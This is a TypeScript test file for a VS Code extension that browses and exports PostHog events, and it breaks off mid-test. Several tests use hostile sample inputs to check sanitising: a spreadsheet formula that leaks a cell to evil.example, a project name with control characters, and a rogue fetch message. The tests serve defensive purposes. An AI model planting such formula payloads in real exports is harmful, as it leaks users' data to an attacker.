import assert from 'node:assert/strict';
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { after, before, describe, it } from 'mocha';
import * as vscode from 'vscode';
import { EventsCommands } from '../../src/events/eventsCommands';
import { CSV_FORMULA_CELLS_SETTING, exportEvents } from '../../src/events/exportEvents';
import type { EventsPanel } from '../../src/events/eventsPanel';
import { defaultFilters, type ExtensionMessage, type WebviewMessage } from '../../src/events/protocol';
import { EventsNode } from '../../src/events/eventsNode';
import { LEGACY_EVENTS_API_SETTING } from '../../src/events/eventSource';
import { timestampMicros } from '../../src/api';
import type { WindowApi } from '../../src/workbench/window';
import type { ScriptedWindow } from './support/scriptedWindow';
import { waitForEvent } from './support/editorWaits';
import { ExplorerHarness, iconOf, installedExtensionUri, labelOf } from './support/explorerHarness';
import { localApi, type RecordedRequest } from './support/localApi';
import { runnerSecrets } from './support/runnerContext';
import { csvRecords } from '../support/csv';

/** Everything the panel posts from now on. */
function record(panel: EventsPanel): ExtensionMessage[] {
  const posted: ExtensionMessage[] = [];
  panel.onDidPost((message) => posted.push(message));
  return posted;
}

async function eventListRequests(projectId: number): Promise<RecordedRequest[]> {
  return (await localApi.requests()).filter((request) => request.method === 'GET' && request.path === `/api/projects/${projectId}/events/`);
}

describe('Events explorer (in the editor)', () => {
  let harness: ExplorerHarness;
  let commands: EventsCommands;
  let eventsNode: EventsNode;
  let panel: EventsPanel;
  let saveTo: vscode.Uri | undefined;
  /** What export progress notifications said. */
  const progressReports: { message?: string; increment?: number }[] = [];
  const tmp = mkdtempSync(path.join(os.tmpdir(), 'posthog-events-'));

  before(async () => {
    const window = (scripted: ScriptedWindow): WindowApi => ({
      ...scripted.api,
      withProgress: ((_options: vscode.ProgressOptions, task: (progress: unknown, token: vscode.CancellationToken) => Thenable<unknown>) =>
        task({ report: (value: { message?: string; increment?: number }) => progressReports.push(value) }, new vscode.CancellationTokenSource().token)) as unknown as WindowApi['withProgress'],
      showSaveDialog: async () => saveTo,
    });
    // These tests follow the legacy events list's requests; the Query API's have their own below.
    await vscode.workspace.getConfiguration().update(LEGACY_EVENTS_API_SETTING, true, vscode.ConfigurationTarget.Global);
    harness = new ExplorerHarness(runnerSecrets(), { extensionUri: installedExtensionUri(), window });
    await harness.signInToLocalApi();
    commands = harness.events.commands;
    const node = await harness.child('Hedgebox Inc.', 'Hedgebox', 'Events');
    assert.ok(node instanceof EventsNode);
    eventsNode = node;
  });
  after(async () => {
    await vscode.workspace.getConfiguration().update(LEGACY_EVENTS_API_SETTING, undefined, vscode.ConfigurationTarget.Global);
    await harness.dispose();
    rmSync(tmp, { recursive: true, force: true });
  });

  it('adds an Events item under each project, after Notebooks, that browses events', async () => {
    const project = await harness.child('Hedgebox Inc.', 'Hedgebox');
    const children = await harness.items(project);
    assert.deepEqual(children.map(({ item }) => labelOf(item)), ['Notebooks', 'Events']);
    const events = children[1]!.item;
    assert.equal(events.contextValue, 'events');
    assert.equal(iconOf(events), 'pulse');
    assert.equal(events.command?.command, 'posthogExplorer.browseEvents');
    assert.equal(events.command?.arguments?.[0], children[1]!.node);
  });

  it('puts a project name from the server on one safe line in the Events item\'s tooltip and the panel\'s title', async () => {
    const staging = (await harness.child('Hedgebox Inc.', 'Hedgebox Staging', 'Events')) as EventsNode;
    const hostile = 'Q3\n[click](https://evil.example)\u202Eevil\u0007';
    const node = new EventsNode(staging, staging.session, { ...staging.project, name: hostile });
    assert.equal(node.treeItem().tooltip, 'Browse the events of Q3 [click](https://evil.example)\uFFFDevil\uFFFD');
    const opened = await commands.browseEvents(node);
    assert.ok(opened);
    try {
      assert.equal(opened.panel.title, 'Events: Q3 [click](https://evil.example)\uFFFDevil\uFFFD');
    } finally {
      opened.dispose();
    }
  });

  it('opens a panel whose webview script runs under the CSP and asks for the first page', async () => {
    await localApi.clearRequests();
    const opened = await commands.browseEvents(eventsNode);
    assert.ok(opened);
    panel = opened;
    const posted = record(panel);
    await waitForEvent(panel.onDidReceive, (message) => message.type === 'ready', 'the webview to say it is ready');
    await waitForEvent(panel.onDidPost, (message) => message.type === 'rows', 'the first rows');
    assert.equal(panel.panel.viewType, 'posthogExplorer.events');
    const init = posted.find((message) => message.type === 'init');
    assert.ok(init && init.type === 'init' && init.project.name === 'Hedgebox');
    const requests = await eventListRequests(eventsNode.project.id);
    assert.ok(requests.length >= 1, 'the extension asked for events');
    assert.ok(requests.every((request) => request.headers['authorization']?.startsWith('Bearer ')), 'with the key, from the extension');
  });

  it('reveals the same panel for the same project', async () => {
    assert.equal(await commands.browseEvents(eventsNode), panel);
  });

  it('keeps working when the connection\'s client is rebuilt (a network setting changed)', async () => {
    const http = vscode.workspace.getConfiguration('http');
    const before = http.inspect<string[]>('noProxy')?.globalValue;
    await http.update('noProxy', ['rebuild-clients.invalid'], vscode.ConfigurationTarget.Global);
    try {
      const posted = record(panel);
      await panel.receive({ type: 'query', filters: defaultFilters() } satisfies WebviewMessage);
      const errors = posted.flatMap((message) => (message.type === 'status' && message.error ? [message.error] : []));
      assert.deepEqual(errors, []);
      assert.ok(posted.some((message) => message.type === 'rows' && message.rows.length > 0), 'rows from the new client');
    } finally {
      await http.update('noProxy', before, vscode.ConfigurationTarget.Global);
    }
  });

  it('applies a filter: event, relative after and a property filter reach the server; rows match', async () => {
    await localApi.clearRequests();
    const posted = record(panel);
    const filters = {
      ...defaultFilters(),
      event: '$pageview',
      after: '-7d',
      properties: [{ key: '$browser', operator: 'exact' as const, value: 'Chrome', type: 'event' as const }],
      columns: '$browser',
    };
    await panel.receive({ type: 'query', filters } satisfies WebviewMessage);
    // The unfiltered listing may still have been paging: pick the new query's first page.
    const request = (await eventListRequests(eventsNode.project.id)).find((entry) => entry.query['properties'] && !entry.query['before']);
    assert.ok(request, 'a filtered request');
    assert.equal(request.query['event'], '$pageview');
    assert.match(String(request.query['after']), /T00:00:00\.000Z$/, 'the relative time went out as a start of day');
    assert.deepEqual(JSON.parse(String(request.query['properties'])), [{ key: '$browser', operator: 'exact', type: 'event', value: 'Chrome' }]);
    const reset = posted.find((message) => message.type === 'reset');
    const rows = posted.flatMap((message) => (message.type === 'rows' && message.generation === reset?.generation ? message.rows : []));
    assert.ok(rows.length > 0, 'some events match');
    assert.ok(rows.every((row) => row.cells[1] === '$pageview' && row.cells[4] === 'Chrome'), JSON.stringify(rows[0]));
  });

  it('drops malformed messages without a request', async () => {
    await localApi.clearRequests();
    await panel.receive({ type: 'query', filters: { event: 42 } });
    await panel.receive({ type: 'fetch', url: 'https://evil.example/' });
    await panel.receive('{"type":"cancel"}');
    assert.deepEqual(await localApi.requests(), []);
  });

  it('suggests values of a property of the event typed in the event field', async () => {
    await localApi.clearRequests();
    const suggestion = waitForEvent(panel.onDidPost, (message) => message.type === 'suggestions' && message.requestId === 7, 'suggestions');
    await panel.receive({ type: 'suggest', requestId: 7, field: 'propertyValue', key: '$browser', propertyType: 'event', eventName: '$pageview', text: 'chr' });
    const message = await suggestion;
    assert.ok(message.type === 'suggestions' && message.values.includes('Chrome') && !message.error, JSON.stringify(message));
    const values = (await localApi.requests()).filter((request) => request.path.endsWith('/events/values/'));
    assert.deepEqual(values.map((request) => request.query), [{ key: '$browser', event_name: '$pageview', value: 'chr' }]);
  });

  it('without an event name, says to type one first and asks nothing', async () => {
    await localApi.clearRequests();
    const suggestion = waitForEvent(panel.onDidPost, (message) => message.type === 'suggestions' && message.requestId === 8, 'suggestions');
    await panel.receive({ type: 'suggest', requestId: 8, field: 'propertyValue', key: '$browser', eventName: '', text: 'chr' });
    const message = await suggestion;
    assert.ok(message.type === 'suggestions' && /type an event name first/i.test(message.note ?? ''), JSON.stringify(message));
    assert.deepEqual(await localApi.requests(), []);
  });

  it('a failed suggestion request is shown by the field, not swallowed', async () => {
    await localApi.injectFault({ path: '/events/values/$', status: 500 });
    const suggestion = waitForEvent(panel.onDidPost, (message) => message.type === 'suggestions' && message.requestId === 9, 'suggestions');
    await panel.receive({ type: 'suggest', requestId: 9, field: 'propertyValue', key: '$os', eventName: '$pageview', text: '' });
    const message = await suggestion;
    assert.ok(message.type === 'suggestions' && /HTTP 500/.test(message.error ?? ''), JSON.stringify(message));
  });

  it('asks for the persons: the Person column is filled', async () => {
    await localApi.clearRequests();
    const posted = record(panel);
    await panel.receive({ type: 'query', filters: { ...defaultFilters(), limit: '200' } });
    const reset = posted.find((message) => message.type === 'reset');
    assert.ok(reset?.type === 'reset' && reset.columns[3] === 'Person');
    const rows = posted.flatMap((message) => (message.type === 'rows' && message.generation === reset.generation ? message.rows : []));
    assert.ok(rows.some((row) => row.cells[3] !== ''), 'some rows show their person');
    const requests = await eventListRequests(eventsNode.project.id);
    assert.ok(requests.length > 0 && requests.every((request) => request.query['include_person'] === 'true'));
  });

  it('a 512 (query too expensive) shows PostHog\'s text and is not retried', async () => {
    await localApi.clearRequests();
    await localApi.injectFault({ path: '/events/$', status: 512 });
    const posted = record(panel);
    await panel.receive({ type: 'query', filters: defaultFilters() });
    const status = posted.find((message) => message.type === 'status' && message.error);
    assert.ok(status?.type === 'status');
    assert.equal(status.error, 'Estimated query execution time is too long. Try reducing its scope by changing the time range.');
    assert.equal((await eventListRequests(eventsNode.project.id)).length, 1);
  });

  it('a 429 is waited out as long as PostHog says, and the panel says so above the table', async () => {
    await localApi.clearRequests();
    await localApi.injectFault({ path: '/events/$', status: 429, throttleSeconds: 2 });
    const posted = record(panel);
    await panel.receive({ type: 'query', filters: defaultFilters() });
    const waiting = posted.flatMap((message) => (message.type === 'status' && message.waiting !== undefined ? [message.waiting] : []));
    assert.match(waiting[0] ?? '', /^PostHog asked to wait 2 s \(its rate limit for this API key\); going on at /, JSON.stringify(waiting));
    assert.equal(waiting.at(-1), '', 'and clears the note once the rows come');
    assert.ok(posted.some((message) => message.type === 'rows' && message.rows.length > 0));
    assert.deepEqual((await eventListRequests(eventsNode.project.id)).slice(0, 2).map((request) => request.status), [429, 200], 'asked again once, after the wait');
  });

  it('a 429 asking to wait 99,999,999 s ends the list at once with PostHog\'s text and a Retry, which runs it again', async () => {
    await localApi.clearRequests();
    await localApi.injectFault({ path: '/events/$', status: 429, throttleText: '99999999' });
    const posted = record(panel);
    await panel.receive({ type: 'query', filters: defaultFilters() });
    const failed = posted.find((message) => message.type === 'status' && message.error);
    assert.ok(failed?.type === 'status');
    assert.match(failed.error ?? '', /asked to wait 3 years \(PostHog: "Request was throttled\. Expected available in 99999999 seconds\."\)\. .*Retry later\./);
    assert.equal(failed.retry, true, 'the panel offers Retry');
    assert.ok(!posted.some((message) => message.type === 'status' && message.waiting), 'no wait shown: nothing waits');
    // The previous query's prefetch may still answer before this one starts: count from the 429.
    const before = (await eventListRequests(eventsNode.project.id)).map((request) => request.status);
    assert.deepEqual(before.slice(before.indexOf(429)), [429], 'asked once, then nothing');
    await panel.receive({ type: 'query', filters: defaultFilters() });
    const statuses = (await eventListRequests(eventsNode.project.id)).map((request) => request.status).slice(before.length);
    assert.ok(statuses.length > 0 && statuses.every((status) => status === 200), `the retry is sent and loads: ${statuses.join(', ')}`);
  });

  it('an export PostHog asks to wait until the year 3000 fails at once, and its Retry writes the file', async () => {
    await localApi.clearRequests();
    await localApi.injectFault({ path: '/events/$', status: 429, retryAfter: 'Wed, 01 Jan 3000 00:00:00 GMT' });
    const target = vscode.Uri.file(path.join(mkdtempSync(path.join(tmp, 'retry-')), 'events.jsonl'));
    harness.window.messages.length = 0;
    harness.window.choose('Retry');
    const reporting: WindowApi = {
      ...harness.window.api,
      withProgress: ((_options: vscode.ProgressOptions, task: (progress: unknown, token: vscode.CancellationToken) => Thenable<unknown>) =>
        task({ report: () => undefined }, new vscode.CancellationTokenSource().token)) as unknown as WindowApi['withProgress'],
    };
    const events = (await harness.connections.session(eventsNode.session.connection.id))!.client.events;
    const outcome = await exportEvents(
      (call) => events.pages(eventsNode.project.id, {}, call),
      { projectId: eventsNode.project.id, projectName: 'Hedgebox', format: 'jsonl', rows: 3 },
      reporting,
      async () => target,
    );
    assert.equal(outcome.kind, 'failed');
    const error = harness.window.messages.find((message) => message.severity === 'error');
    assert.match(error?.text ?? '', /^Could not export events: PostHog has limited the requests of this API key and asked to wait \d+ years .*"Retry-After: Wed, 01 Jan 3000 00:00:00 GMT"/);
    assert.deepEqual(error?.buttons, ['Retry']);
    const retried = outcome.kind === 'failed' ? await outcome.retried : undefined;
    assert.equal(retried?.kind, 'saved', 'Retry exported');
    assert.equal(readFileSync(target.fsPath, 'utf8').trim().split('\n').length, 3);
    assert.deepEqual((await eventListRequests(eventsNode.project.id)).map((request) => request.status), [429, 200]);
  });

  it('opens an event by id with its properties pretty-printed', async () => {
    const posted = record(panel);
    await panel.receive({ type: 'query', filters: defaultFilters() });
    const reset = posted.find((message) => message.type === 'reset');
    const first = posted.find((message) => message.type === 'rows' && message.generation === reset?.generation);
    const id = first?.type === 'rows' ? first.rows[0]?.id : undefined;
    assert.ok(id);
    await panel.receive({ type: 'open', id });
    const detail = posted.find((message) => message.type === 'detail');
    assert.ok(detail?.type === 'detail' && detail.detail, JSON.stringify(detail));
    assert.equal(detail.detail.id, id);
    assert.match(detail.detail.properties, /^\{\n  "/);
  });

  /** The id of the newest event the panel lists. */
  async function newestEventId(): Promise<string> {
    const posted = record(panel);
    await panel.receive({ type: 'query', filters: defaultFilters() });
    const rows = posted.find((message) => message.type === 'rows' && message.rows.length > 0);
    const id = rows?.type === 'rows' ? rows.rows[0]?.id : undefined;
    assert.ok(id);
    return id;
  }
  const detailPath = '/events/[0-9a-f]{8}-[0-9a-f-]+/$';

  it('an event\'s detail says what it waits for when PostHog\'s limit makes the key wait, then shows the event', async () => {
    const id = await newestEventId();
    await localApi.injectFault({ path: detailPath, status: 429, throttleSeconds: 2 });
    const posted = record(panel);
    await panel.receive({ type: 'open', id });
    const details = posted.flatMap((message) => (message.type === 'detail' ? [message] : []));
    assert.match(details[0]?.waiting ?? '', /^PostHog asked to wait 2 s \(its rate limit for this API key\); going on at /, JSON.stringify(details[0]));
    assert.equal(details.at(-1)?.detail?.id, id);
  });

  it('closing an event\'s detail stops its wait for PostHog\'s limit: nothing more is asked or shown', async () => {
    const id = await newestEventId();
    await localApi.injectFault({ path: detailPath, status: 429, throttleSeconds: 2 });
    await localApi.clearRequests();
    const posted = record(panel);
    const opening = panel.receive({ type: 'open', id });
    await waitForEvent(panel.onDidPost, (message) => message.type === 'detail' && message.waiting !== undefined, 'the wait to show');
    await panel.receive({ type: 'closeDetail', id });
    await opening;
    const budget = eventsNode.session.client.events.budget;
    assert.ok(budget.waitFor('clickhouse', 'interactive'), 'stopped at once: PostHog\'s 2 s limit still held when the wait ended');
    assert.deepEqual(posted.flatMap((message) => (message.type === 'detail' && message.waiting === undefined ? [message] : [])), []);
    const asked = (await localApi.requests()).filter((request) => new RegExp(detailPath).test(request.path));
    assert.deepEqual(asked.map((request) => request.status), [429]);
    await new Promise((resolve) => setTimeout(resolve, 2_000)); // the key's events wait out PostHog's 2 s before the next test
  });

  it('copies what the webview asks through the window seam: the clipboard, and a word in the status bar', async () => {
    await panel.receive({ type: 'copy', text: '{"event":"$pageview"}' });
    assert.equal(harness.env.clipboard.text, '{"event":"$pageview"}');
    assert.equal(harness.window.statusMessages.at(-1), 'Copied to the clipboard');
  });

  it('exports 5,000 rows of a project of about one event a second with timestamp clusters: every row once, none skipped', async () => {
    const stream = await localApi.addSteadyEvents(eventsNode.project.id, 6_000, { perSecond: 1, clusterEvery: 11, clusterSize: 5 });
    await localApi.clearRequests();
    progressReports.length = 0;
    harness.window.messages.length = 0;
    saveTo = vscode.Uri.file(path.join(tmp, 'five-thousand.csv'));
    await panel.receive({ type: 'export', format: 'csv', filters: { ...defaultFilters(), exportLimit: '5000' } });
    const [header, ...rows] = csvRecords(readFileSync(saveTo.fsPath, 'utf8'));
    assert.equal(rows.length, 5_000);
    assert.deepEqual(header, [...header!].sort(), 'dotted, sorted headers');
    assert.ok(header!.includes('properties.$browser') && header!.includes('person.distinct_ids.0'), 'properties and persons flattened');
    const ids = rows.map((row) => row[header!.indexOf('id')]!);
    assert.equal(new Set(ids).size, 5_000, 'every row once');
    const oldest = timestampMicros(rows.at(-1)![header!.indexOf('timestamp')]!)!;
    const expected = stream.events.filter(([, micros]) => micros > oldest).map(([id]) => id);
    const written = new Set(ids);
    assert.deepEqual(expected.filter((id) => !written.has(id)), [], 'no event newer than the last row is missing, cluster-mates at page boundaries included');
    const pages = await eventListRequests(eventsNode.project.id);
    assert.ok(pages.every((request) => request.query['limit'] === '1000' && request.query['include_person'] === 'true' && request.query['format'] === undefined));
    assert.ok(pages.length >= 6, `${pages.length} requests: PostHog answers about 900 rows a page here, without next`);
    assert.equal(progressReports.at(-1)?.message, '5,000 of 5,000 rows written');
    assert.equal(Math.round(progressReports.reduce((sum, report) => sum + (report.increment ?? 0), 0)), 100);
    assert.equal(
      harness.window.messages.at(-1)?.text,
      `Exported 5,000 events to ${vscode.workspace.asRelativePath(saveTo)}: exactly the number asked; more events match the filters.`,
    );
  });

  it('an export asking for more rows than match says how many were written', async () => {
    harness.window.messages.length = 0;
    saveTo = vscode.Uri.file(path.join(tmp, 'uploads.jsonl'));
    await panel.receive({ type: 'export', format: 'jsonl', filters: { ...defaultFilters(), event: 'uploaded_file', after: '-30d', exportLimit: '1000000' } });
    const lines = readFileSync(saveTo.fsPath, 'utf8').trimEnd().split('\n');
    assert.ok(lines.length > 0 && lines.length < 1_000_000);
    assert.ok(lines.every((line) => JSON.parse(line).event === 'uploaded_file'));
    assert.equal(
      harness.window.messages.at(-1)?.text,
      `Exported ${lines.length.toLocaleString('en-US')} events to ${vscode.workspace.asRelativePath(saveTo)}: every event that matches the filters (you asked for 1,000,000).`,
    );
  });

  it('a CSV export starts cells a spreadsheet would run as formulas with a quote, unless posthogExplorer.events.csvFormulaCells is raw', async () => {
    const formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")';
    await localApi.addEventsNow(eventsNode.project.id, 1, 'formula_cells', undefined, { payload: formula, price: -5, 'a.b': 'dotted key', a: { b: 'nested' } });
    const exported = async (name: string) => {
      saveTo = vscode.Uri.file(path.join(tmp, name));
      await panel.receive({ type: 'export', format: 'csv', filters: { ...defaultFilters(), event: 'formula_cells', exportLimit: '10' } });
      const [header, row] = csvRecords(readFileSync(saveTo.fsPath, 'utf8'));
      return (column: string) => row![header!.indexOf(column)];
    };
    const neutral = await exported('formulas.csv');
    assert.equal(neutral('properties.payload'), `'${formula}`);
    assert.equal(neutral('properties.price'), '-5', 'a plain number is not a formula');
    assert.equal(neutral('properties.a.b'), 'nested');
    assert.equal(neutral('properties["a.b"]'), 'dotted key', 'a dotted key keeps a column of its own');
    const settings = vscode.workspace.getConfiguration();
    await settings.update(CSV_FORMULA_CELLS_SETTING, 'raw', vscode.ConfigurationTarget.Global);
    try {
      const raw = await exported('formulas-raw.csv');
      assert.equal(raw('properties.payload'), formula);
    } finally {
      await settings.update(CSV_FORMULA_CELLS_SETTING, undefined, vscode.ConfigurationTarget.Global);
    }
  });

  describe('a cancelled export', () => {
    const cancelling = (): WindowApi => ({
      ...harness.window.api,
      withProgress: ((_options: vscode.ProgressOptions, task: (progress: unknown, token: vscode.CancellationToken) => Thenable<unknown>) => {
        const source = new vscode.CancellationTokenSource();
        const running = task({ report: () => undefined }, source.token);
        source.cancel();
        return running;
      }) as unknown as WindowApi['withProgress'],
    });
    const cancelledExport = async (target: vscode.Uri, format: 'csv' | 'json') => {
      const events = (await harness.connections.session(eventsNode.session.connection.id))!.client.events;
      return exportEvents(
        (call) => events.pages(eventsNode.project.id, {}, call),
        { projectId: eventsNode.project.id, projectName: 'Hedgebox', format, rows: 5_000 },
        cancelling(),
        async () => target,
      );
    };

    it('leaves no file behind', async () => {
      const folder = mkdtempSync(path.join(tmp, 'cancelled-'));
      const outcome = await cancelledExport(vscode.Uri.file(path.join(folder, 'cancelled.json')), 'json');
      assert.equal(outcome.kind, 'cancelled');
      assert.deepEqual(readdirSync(folder), []);
    });

    it('keeps the file the user chose to replace as it was, and leaves nothing beside it', async () => {
      const folder = mkdtempSync(path.join(tmp, 'replace-'));
      const target = vscode.Uri.file(path.join(folder, 'last-week.csv'));
      writeFileSync(target.fsPath, 'id,event\r\nlast week,$pageview\r\n');
      harness.window.messages.length = 0;
      const outcome = await cancelledExport(target, 'csv');
      assert.equal(outcome.kind, 'cancelled');
      assert.equal(readFileSync(target.fsPath, 'utf8'), 'id,event\r\nlast week,$pageview\r\n');
      assert.deepEqual(readdirSync(folder), ['last-week.csv']);
      assert.equal(harness.window.messages.at(-1)?.text, `Export cancelled; nothing was written to ${vscode.workspace.asRelativePath(target)}.`);
    });
  });

  it('restores a panel after a reload from its saved state (serializer)', async () => {
    const connectionId = eventsNode.session.connection.id;
    const staging = (await harness.child('Hedgebox Inc.', 'Hedgebox Staging', 'Events')) as EventsNode;
    const state = {
      connectionId,
      projectId: staging.project.id,
      projectName: staging.project.name,
      filters: { ...defaultFilters(), event: 'uploaded_file', after: '-3d' },
      scrollTop: 240,
    };
    const webviewPanel = vscode.window.createWebviewPanel('posthogExplorer.events', 'Events', vscode.ViewColumn.Active);
    await commands.deserializeWebviewPanel(webviewPanel, state);
    const restored = commands.panel(connectionId, staging.project.id);
    assert.ok(restored, 'the panel is known again');
    const init = await waitForEvent(restored.onDidPost, (message) => message.type === 'init', 'init');
    assert.ok(init.type === 'init');
    assert.equal(init.filters.event, 'uploaded_file');
    assert.equal(init.scrollTop, 240);
    restored.dispose();
  });

  it('a saved state it cannot use shows a plain page, with no script', async () => {
    const webviewPanel = vscode.window.createWebviewPanel('posthogExplorer.events', 'Events', vscode.ViewColumn.Active);
    await commands.deserializeWebviewPanel(webviewPanel, { connectionId: 'gone', projectId: 'x' });
    assert.doesNotMatch(webviewPanel.webview.html, /<script/);
    assert.match(webviewPanel.webview.html, /sign in again/i);
    webviewPanel.dispose();
  });

  it('from the palette, asks for the project', async () => {
    harness.window.pick('Hedgebox Staging');
    const staging = await commands.browseEvents();
    assert.ok(staging);
    assert.equal(staging.project.name, 'Hedgebox Staging');
    assert.notEqual(staging, panel);
    staging.dispose();
  });

  it('closing the panel stops it and lets the command open a new one', async () => {
    panel.panel.dispose();
    const reopened = await commands.browseEvents(eventsNode);
    assert.ok(reopened && reopened !== panel);
    reopened.dispose();
  });
});

/** The rows the panel posted for the listing that `reset` began. */
function rowsOf(posted: ExtensionMessage[]) {
  const reset = [...posted].reverse().find((message) => message.type === 'reset');
  const rows = posted.flatMap((message) => (message.type === 'rows' && reset?.type === 'reset' && message.generation === reset.generation ? message.rows : []));
  return { reset: reset?.type === 'reset' ? reset : undefined, rows };
}

async function listed(panel: EventsPanel, filters: Partial<ReturnType<typeof defaultFilters>>): Promise<ExtensionMessage[]> {
  const posted = record(panel);
  await panel.receive({ type: 'query', filters: { ...defaultFilters(), after: '-7d', limit: '100', ...filters } } satisfies WebviewMessage);
  return posted;
}

/** Resolves with the first message posted (already or from now on) that passes `test`. */
function posted(panel: EventsPanel, messages: ExtensionMessage[], test: (message: ExtensionMessage) => boolean, what: string, ms?: number): Promise<ExtensionMessage> {
  const found = messages.find(test);
  return found ? Promise.resolve(found) : waitForEvent(panel.onDidPost, test, what, ms);
}

describe('Events through PostHog\'s Query API (in the editor)', () => {
  let harness: ExplorerHarness;
  let panel: EventsPanel;
  let projectId: number;
  let hedgebox: EventsNode;
  const tmp = mkdtempSync(path.join(os.tmpdir(), 'posthog-events-query-'));

  /** The Events item of a new, empty project of Hedgebox Inc. (the local API's control makes it). */
  const newProject = async (): Promise<EventsNode> => {
    const organization = (await hedgebox.session.model.organizations()).find((entry) => entry.name === 'Hedgebox Inc.');
    assert.ok(organization);
    const [id] = await localApi.addProjects(organization.id, 1);
    assert.ok(id !== undefined);
    return new EventsNode(hedgebox, hedgebox.session, { ...hedgebox.project, id, name: `Bulk project ${id}` });
  };

  before(async () => {
    harness = new ExplorerHarness(runnerSecrets(), { extensionUri: installedExtensionUri() });
    await harness.signInToLocalApi();
    const node = (await harness.child('Hedgebox Inc.', 'Hedgebox', 'Events')) as EventsNode;
    hedgebox = node;
    projectId = node.project.id;
    const opened = await harness.events.commands.browseEvents(node);
    assert.ok(opened);
    panel = opened;
    await localApi.setQueryApi(true);
  });
  after(async () => {
    await localApi.setQueryApi(true);
    await harness.dispose();
    rmSync(tmp, { recursive: true, force: true });
  });

  it('query api export: the newest N events, newest first, each once with its uuid, a page boundary inside events sharing one timestamp', async () => {
    const node = await newProject();
    const steady = await localApi.addSteadyEvents(node.project.id, 4_990, { perSecond: 1 });
    const oldestMillis = Math.floor(steady.events.at(-1)![1] / 1000);
    // 20 events on one timestamp just older: the export's first page (5,000 rows) ends inside them.
    const tie = await localApi.addEventsNow(node.project.id, 20, 'tied', new Date(oldestMillis - 1_000).toISOString());
    await localApi.addEventsNow(node.project.id, 5, 'older', new Date(oldestMillis - 10_000).toISOString());
    const exporting = await harness.events.commands.browseEvents(node);
    assert.ok(exporting);
    try {
      await localApi.clearRequests();
      const target = vscode.Uri.file(path.join(tmp, 'newest.jsonl'));
      harness.window.saveTargets.push(target);
      await exporting.receive({ type: 'export', format: 'jsonl', filters: { ...defaultFilters(), exportLimit: '5010' } } satisfies WebviewMessage);
      const rows = readFileSync(target.fsPath, 'utf8').trimEnd().split('\n').map((line) => JSON.parse(line) as { id: string; timestamp: string; event: string });
      const ids = rows.map((row) => row.id);
      assert.equal(rows.length, 5_010);
      assert.equal(new Set(ids).size, 5_010, 'every event once');
      assert.ok(ids.every((id) => /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/i.test(id)), 'each row carries its uuid');
      assert.deepEqual(ids.slice(0, 4_990), steady.events.map(([id]) => id), 'the steady events, newest first');
      assert.deepEqual(new Set(ids.slice(4_990)), new Set(tie.ids), 'then all 20 events of the shared timestamp, none lost at the page boundary');
      const micros = rows.map((row) => timestampMicros(row.timestamp)!);
      assert.ok(micros.every((time, index) => index === 0 || time <= micros[index - 1]!), 'newest first');
      const requests = (await localApi.requests()).filter((request) => request.path.startsWith(`/api/projects/${node.project.id}/`));
      const pages = requests.filter((request) => request.method === 'POST' && request.path === `/api/projects/${node.project.id}/query/` && (request.body as { query: { kind: string; limit?: number } }).query.limit === 5_000);
      assert.ok(pages.length >= 2, `${pages.length} EventsQuery pages of 5,000`);
      assert.ok(pages.every((request) => (request.body as { query: { kind: string } }).query.kind === 'EventsQuery'));
      assert.deepEqual(requests.filter((request) => request.path.endsWith('/events/')), [], 'nothing asked of the legacy events list');
    } finally {
      exporting.dispose();
    }
  });

  it('query api look-back: a project whose events are days old shows them with the default range, and says it looked back 7 days', async () => {
    const node = await newProject();
    const threeDaysAgo = new Date(Date.now() - 3 * 24 * 3_600_000).toISOString();
    const old = await localApi.addEventsNow(node.project.id, 3, 'days_old', threeDaysAgo);
    const opened = await harness.events.commands.browseEvents(node);
    assert.ok(opened);
    try {
      const messages = record(opened);
      const note = await posted(opened, messages, (message) => message.type === 'status' && message.note !== undefined && message.note.startsWith('No events in the last 24 hours'), 'the look-back note', 50_000); // a new webview's script loads first: slow on a busy machine
      assert.ok(note.type === 'status');
      assert.equal(note.note, 'No events in the last 24 hours; showing the last 7 days.');
      assert.ok(messages.some((message) => message.type === 'after' && message.after === '-7d'), 'the After field says 7 days');
      const rows = await posted(opened, messages, (message) => message.type === 'rows' && message.generation === note.generation, 'the rows of the last 7 days');
      assert.ok(rows.type === 'rows');
      assert.deepEqual(rows.rows.map((row) => row.cells[1]), ['days_old', 'days_old', 'days_old']);
      assert.deepEqual(new Set(rows.rows.map((row) => row.id)), new Set(old.ids));

      const filtered = record(opened);
      await opened.receive({ type: 'query', filters: { ...defaultFilters(), event: 'matches nothing' } } satisfies WebviewMessage);
      assert.ok(filtered.some((message) => message.type === 'status' && message.note === 'No events match event = "matches nothing".'), JSON.stringify(filtered.slice(-2)));
      assert.deepEqual(filtered.filter((message) => message.type === 'after' || (message.type === 'status' && message.note?.startsWith('No events in the last 24 hours'))), [], 'with a filter set it does not look back');
      assert.equal(filtered.filter((message) => message.type === 'reset').length, 1, 'one listing only');
    } finally {
      opened.dispose();
    }
  });

  it('query api: columns as HogQL expressions headed by the expression, the where sent as typed with orderBy timestamp DESC', async () => {
    await localApi.clearRequests();
    const posted = await listed(panel, { columns: 'properties.$browser, upper(event)', where: "properties.$browser = 'Chrome'" });
    const { reset, rows } = rowsOf(posted);
    assert.deepEqual(reset?.columns, ['Time', 'Event', 'Distinct ID', 'Person', 'properties.$browser', 'upper(event)']);
    assert.ok(rows.length > 0, 'some events match');
    assert.ok(rows.every((row) => row.cells[4] === 'Chrome' && row.cells[5] === row.cells[1]!.toUpperCase()), JSON.stringify(rows[0]));
    const queries = (await localApi.requests()).filter((request) => request.method === 'POST' && request.path === `/api/projects/${projectId}/query/`);
    const sent = (queries[0]?.body as { query: Record<string, unknown> }).query;
    assert.deepEqual(sent['where'], ["properties.$browser = 'Chrome'"]);
    assert.deepEqual(sent['orderBy'], ['timestamp DESC']);
  });

  it('query api: a HogQL error in the where is shown at that field, with PostHog\'s message and position', async () => {
    const posted = await listed(panel, { where: 'event = = 1' });
    const error = posted.find((message) => message.type === 'fieldError');
    assert.ok(error?.type === 'fieldError', JSON.stringify(posted.slice(-3)));
    assert.equal(error.field, 'where');
    assert.equal(error.text, 'event = = 1');
    assert.ok(error.start !== undefined && error.start >= 6, JSON.stringify(error));
    assert.ok(posted.some((message) => message.type === 'status' && /could not run the query/i.test(message.error ?? '')));
  });

  it('query api: an empty result names the filters the user set', async () => {
